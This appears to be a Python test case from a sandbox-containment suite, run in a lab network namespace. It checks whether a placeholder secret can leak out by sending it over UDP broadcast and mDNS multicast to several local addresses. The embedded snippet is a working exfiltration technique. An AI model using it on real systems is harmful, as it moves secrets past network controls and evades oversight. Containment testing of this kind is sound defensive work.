"""sends a secret to groups and to everybody on the network"""

from evidence import secret_left as succeeded

SHAPE = "mDNS and SSDP: names and data for the whole network"
PROMISE = "P28"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket
line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for address in ("192.168.77.255", "192.168.77.1", "224.0.0.251"):
    try:
        line.sendto(b"@SECRET@", (address, 5353))
    except OSError:
        pass
"""
